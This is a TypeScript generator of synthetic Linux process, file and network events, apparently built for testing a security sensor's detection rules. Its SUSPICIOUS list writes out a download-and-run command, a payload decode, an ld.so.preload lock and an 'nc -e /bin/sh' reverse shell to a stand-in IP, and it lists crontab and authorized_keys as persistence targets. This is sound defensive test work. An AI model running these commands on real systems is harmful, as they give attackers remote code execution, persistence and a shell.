/**
 * A made-up but plausible machine, for benches, demos and tests: services, cron, shell sessions and builds with their
 * process trees, file and network events. Deterministic: the same options give the same bytes on every machine.
 *
 * Proportions (measured over a long run): about 61 % file, 27 % process, 12 % network and DNS events; about a quarter
 * of the records belong to the security lane. Roughly one event in 20,000 is of the kind rules look for.
 */
import type { FileInfo, NetworkInfo, ProcessInfo, SentinelEvent } from '../event.ts';
import { encodeEvent } from './encode.ts';

export interface WorkloadOptions {
  seed: number;
  /** How many events. */
  count: number;
  /** Spacing of the stamps. Default 10,000. */
  eventsPerSecond?: number;
  /** CLOCK_BOOTTIME ns of the first event. Default one hour. */
  startNs?: bigint;
  /** Pids wrap here, so that long runs reuse them. Default 32,768. */
  pidMax?: number;
  /** Processes alive at once at most. Default 400. */
  maxLive?: number;
}

export interface WorkloadEvent {
  event: SentinelEvent;
  /** CLOCK_BOOTTIME ns. */
  bootNs: bigint;
}

interface Actor {
  pid: number;
  startNs: bigint;
  parent: Actor | undefined;
  executable: string;
  argv: string[];
  cwd: string;
  uid: number;
  cgroupId: string;
  /** Steps it still does before it exits; Infinity for services. */
  steps: number;
  children: number;
}

/** mulberry32: 32 bits of state, full period, plenty for a workload. */
function randomOf(seed: number): (limit: number) => number {
  let state = seed >>> 0;
  return (limit) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % limit;
  };
}

const SERVICES: readonly (readonly [path: string, uid: number, ...argv: string[]])[] = [
  ['/usr/lib/systemd/systemd-journald', 0, 'systemd-journald'],
  ['/usr/sbin/cron', 0, '/usr/sbin/cron', '-f'],
  ['/usr/sbin/sshd', 0, 'sshd: /usr/sbin/sshd -D [listener]'],
  ['/usr/bin/dbus-daemon', 101, 'dbus-daemon', '--system', '--nofork'],
  ['/usr/sbin/nginx', 33, 'nginx: worker process'],
  ['/usr/lib/postgresql/15/bin/postgres', 105, 'postgres', '-D', '/var/lib/postgresql/15/main'],
  ['/usr/sbin/rsyslogd', 0, '/usr/sbin/rsyslogd', '-n'],
  ['/usr/bin/containerd', 0, 'containerd'],
];

const COMMANDS: readonly (readonly [path: string, ...argv: string[]])[] = [
  ['/usr/bin/ls', 'ls', '-la', '--color=auto'],
  ['/usr/bin/cat', 'cat', 'README.md'],
  ['/usr/bin/grep', 'grep', '-rn', 'TODO', 'src'],
  ['/usr/bin/git', 'git', 'status', '--short'],
  ['/usr/bin/git', 'git', 'fetch', '--all'],
  ['/usr/bin/python3.11', 'python3', 'manage.py', 'runserver', '0.0.0.0:8000'],
  ['/usr/bin/curl', 'curl', '-fsSL', 'https://deb.debian.org/debian/dists/bookworm/InRelease'],
  ['/usr/bin/ssh', 'ssh', '-o', 'BatchMode=yes', 'build01', 'uptime'],
  ['/usr/bin/find', 'find', '.', '-name', '*.ts', '-newer', 'package.json'],
  ['/usr/bin/tar', 'tar', 'czf', 'backup.tar.gz', 'docs'],
  ['/usr/bin/make', 'make', '-j4', 'all'],
  ['/usr/bin/node', 'node', 'build/index.js', '--watch'],
  ['/usr/bin/sed', 'sed', '-i', 's/foo/bar/g', 'config.yaml'],
  ['/usr/bin/systemctl', 'systemctl', 'status', 'nginx'],
];

const COMPILER: readonly (readonly [path: string, ...argv: string[]])[] = [
  ['/usr/lib/gcc/x86_64-linux-gnu/12/cc1', 'cc1', '-quiet', 'main.c', '-o', '/tmp/ccQ1w2e3.s'],
  ['/usr/bin/x86_64-linux-gnu-as', 'as', '--64', '-o', 'main.o', '/tmp/ccQ1w2e3.s'],
  ['/usr/bin/x86_64-linux-gnu-ld.bfd', 'ld', '-o', 'a.out', 'main.o', '-lc'],
];

/** What rules are there to find; rare. */
const SUSPICIOUS: readonly (readonly [path: string, ...argv: string[]])[] = [
  ['/usr/bin/curl', 'curl', '-s', 'http://198.51.100.7/x.sh', '-o', '/tmp/.x'],
  ['/tmp/.x', '/tmp/.x', '--daemon'],
  ['/usr/bin/base64', 'base64', '-d', '/tmp/payload.b64'],
  ['/usr/bin/chattr', 'chattr', '+i', '/etc/ld.so.preload'],
  ['/usr/bin/nc.openbsd', 'nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
];

const READ_FILES = [
  '/etc/ld.so.cache',
  '/usr/lib/x86_64-linux-gnu/libc.so.6',
  '/usr/lib/locale/locale-archive',
  '/etc/passwd',
  '/etc/nsswitch.conf',
  '/proc/self/status',
  '/usr/share/zoneinfo/Etc/UTC',
  '/etc/resolv.conf',
];
const SENSITIVE_WRITES = [
  '/etc/crontab',
  '/home/dev/.ssh/authorized_keys',
  '/etc/systemd/system/app.service',
];
const DOMAINS = ['deb.debian.org', 'github.com', 'registry.npmjs.org', 'api.example.com', 'ntp.pool.example'];
const PORTS = [443, 443, 443, 80, 22, 5432, 53];

class Machine {
  readonly #random: (limit: number) => number;
  readonly #stepNs: bigint;
  readonly #pidMax: number;
  readonly #maxLive: number;
  readonly #live: Actor[] = [];
  readonly #pids = new Set<number>();
  readonly #pending: WorkloadEvent[] = [];
  readonly #init: Actor;
  #nextPid = 900;
  #nowNs: bigint;
  #files = 0;

  constructor(options: WorkloadOptions) {
    this.#random = randomOf(options.seed);
    this.#stepNs = BigInt(Math.max(1, Math.round(1e9 / (options.eventsPerSecond ?? 10_000))));
    this.#pidMax = options.pidMax ?? 32_768;
    this.#maxLive = options.maxLive ?? 400;
    this.#nowNs = options.startNs ?? 3_600_000_000_000n;
    this.#init = this.#actor(
      1,
      10_000_000n,
      undefined,
      '/usr/lib/systemd/systemd',
      ['/sbin/init'],
      0,
      Infinity,
    );
    this.#boot();
  }

  next(): WorkloadEvent {
    while (this.#pending.length === 0) this.#step();
    return this.#pending.shift() as WorkloadEvent;
  }

  #pick<T>(list: readonly T[]): T {
    return list[this.#random(list.length)] as T;
  }

  #actor(
    pid: number,
    startNs: bigint,
    parent: Actor | undefined,
    executable: string,
    argv: string[],
    uid: number,
    steps: number,
  ): Actor {
    const cwd = parent === undefined || uid === 0 ? '/' : '/home/dev/project';
    const cgroupId = String(4000 + uid);
    const actor = { pid, startNs, parent, executable, argv, cwd, uid, cgroupId, steps, children: 0 };
    this.#pids.add(pid);
    this.#live.push(actor);
    if (parent !== undefined) parent.children += 1;
    return actor;
  }

  #freshPid(): number {
    do {
      this.#nextPid = this.#nextPid >= this.#pidMax - 1 ? 900 : this.#nextPid + 1;
    } while (this.#pids.has(this.#nextPid));
    return this.#nextPid;
  }

  /** What a kernel record would carry of its process: no more for events other than exec and snapshot. */
  #emit(
    action: string,
    type: SentinelEvent['type'],
    actor: Actor,
    security: boolean,
    rest: Partial<SentinelEvent> = {},
  ): void {
    this.#nowNs += this.#stepNs;
    const name = actor.executable.slice(actor.executable.lastIndexOf('/') + 1);
    const info: ProcessInfo = {
      pid: actor.pid,
      startNs: actor.startNs,
      name,
      tid: actor.pid,
      uid: actor.uid,
      euid: actor.uid,
      cgroupId: actor.cgroupId,
      ppid: actor.parent?.pid ?? 0,
      parentStartNs: actor.parent?.startNs,
    };
    if (action === 'exec' || action === 'snapshot') {
      info.executable = actor.executable;
      info.argv = actor.argv;
      info.cwd = actor.cwd;
      info.gid = actor.uid;
      info.exeIdentity = {
        dev: 0xfd00,
        inode: BigInt(100_000 + actor.executable.length * 31 + name.length),
        mtimeNs: 1_700_000_000_000_000_000n,
        ctimeNs: 1_700_000_000_000_000_000n,
        size: 100_000 + name.length * 1000,
      };
    }
    const event: SentinelEvent = {
      eventId: 0,
      type,
      action,
      lane: security ? 'security' : 'observability',
      tsNs: 0n,
      process: info,
      severity: 'info',
      ...rest,
    };
    this.#pending.push({ event, bootNs: this.#nowNs });
  }

  #boot(): void {
    this.#emit('snapshot', 'process', this.#init, true);
    for (const [path, uid, ...argv] of SERVICES) {
      const started = BigInt(1_000_000_000 + this.#random(1_000_000_000));
      const service = this.#actor(this.#freshPid(), started, this.#init, path, argv, uid, Infinity);
      this.#emit('snapshot', 'process', service, true);
    }
    for (let session = 0; session < 6; session++) {
      const started = BigInt(60_000_000_000 + this.#random(1_000_000_000));
      const shell = this.#actor(
        this.#freshPid(),
        started,
        this.#init,
        '/usr/bin/bash',
        ['-bash'],
        1000,
        Infinity,
      );
      this.#emit('snapshot', 'process', shell, true);
    }
  }

  /** fork and exec, as a shell or make does. */
  #spawn(parent: Actor, path: string, argv: readonly string[], steps: number): Actor {
    const child = this.#actor(
      this.#freshPid(),
      this.#nowNs,
      parent,
      parent.executable,
      parent.argv,
      parent.uid,
      steps,
    );
    this.#emit('fork', 'process', child, true);
    child.executable = path;
    child.argv = [...argv];
    this.#emit('exec', 'process', child, true);
    for (let index = 0; index < 3; index++) this.#open(child, READ_FILES[index] as string);
    return child;
  }

  #end(actor: Actor): void {
    this.#live.splice(this.#live.indexOf(actor), 1);
    this.#pids.delete(actor.pid);
    if (actor.parent !== undefined) actor.parent.children -= 1;
    this.#emit('exit', 'process', actor, true);
    const last = this.#pending.at(-1)?.event.process;
    if (last !== undefined) last.exitCode = this.#random(20) === 0 ? 1 : 0;
  }

  #open(actor: Actor, path: string): void {
    const file: FileInfo = {
      path,
      op: 'open',
      inode: String(5000 + path.length),
      device: '253:0',
      flags: 0x80000,
      mode: 0o100644,
    };
    this.#emit('open', 'file', actor, false, { file });
  }

  #write(actor: Actor): void {
    if (this.#random(400) === 0) {
      const path = this.#pick(SENSITIVE_WRITES);
      this.#emit('write', 'file', actor, true, { file: { path, op: 'write', bytes: 300, device: '253:0' } });
      return;
    }
    this.#files += 1;
    const path = `${actor.cwd === '/' ? '/var/lib/app' : actor.cwd}/out/file-${this.#files % 5000}.dat`;
    const file: FileInfo = {
      path,
      op: 'create',
      inode: String(100_000 + this.#files),
      device: '253:0',
      flags: 0x241,
      mode: 0o100644,
    };
    this.#emit('create', 'file', actor, false, { file });
    const bytes = 100 + this.#random(100_000);
    this.#emit('write', 'file', actor, false, { file: { path, op: 'write', bytes, device: '253:0' } });
    const fate = this.#random(16);
    if (fate < 4) {
      const renamed = `${path}.new`;
      this.#emit('rename', 'file', actor, false, { file: { path: renamed, op: 'rename', oldPath: path } });
    } else if (fate < 7) this.#emit('unlink', 'file', actor, false, { file: { path, op: 'unlink' } });
  }

  #network(actor: Actor): void {
    const query = this.#pick(DOMAINS);
    const resolver: NetworkInfo = {
      protocol: 'udp',
      srcIp: '10.0.0.5',
      srcPort: 30_000 + this.#random(30_000),
      dstIp: '10.0.0.2',
      dstPort: 53,
      direction: 'outbound',
    };
    this.#emit('query', 'dns', actor, false, { network: resolver, dns: { query, recordType: 'A' } });
    const network: NetworkInfo = {
      protocol: 'tcp',
      srcIp: '10.0.0.5',
      srcPort: 30_000 + this.#random(30_000),
      dstIp: `93.184.${this.#random(255)}.${1 + this.#random(254)}`,
      dstPort: this.#pick(PORTS),
      direction: 'outbound',
    };
    this.#emit('connect', 'network', actor, false, { network });
    const bytesSent = 200 + this.#random(5000);
    const bytesReceived = 500 + this.#random(500_000);
    this.#emit('close', 'network', actor, false, { network: { ...network, bytesSent, bytesReceived } });
  }

  #step(): void {
    const actor = this.#pick(this.#live);
    if (actor.steps <= 0 && actor.children === 0) return this.#end(actor);
    actor.steps -= 1;
    const dice = this.#random(100);
    const room = this.#live.length < this.#maxLive;
    if (actor.executable.endsWith('/bash') && room && dice < 60) {
      if (this.#random(600) === 0) {
        const [path, ...argv] = this.#pick(SUSPICIOUS);
        this.#spawn(actor, path, argv, 2);
        return;
      }
      const [path, ...argv] = this.#pick(COMMANDS);
      this.#spawn(actor, path, argv, 2 + this.#random(6));
    } else if (actor.executable.endsWith('/make') && room && dice < 80) {
      for (const [path, ...argv] of COMPILER) this.#spawn(actor, path, argv, 2);
    } else if (actor === this.#init) this.#open(actor, '/proc/1/cgroup');
    else if (dice < 45) this.#open(actor, this.#pick(READ_FILES));
    else if (dice < 85) this.#write(actor);
    else this.#network(actor);
  }
}

/** The workload as events, in time order; the first ones are the snapshot of what already runs. */
export function* generateEvents(options: WorkloadOptions): Generator<WorkloadEvent> {
  const machine = new Machine(options);
  for (let index = 0; index < options.count; index++) yield machine.next();
}

/** The workload as encoded sensor records. */
export function* generateWorkload(options: WorkloadOptions): Generator<Buffer> {
  for (const { event, bootNs } of generateEvents(options)) yield encodeEvent(event, bootNs);
}
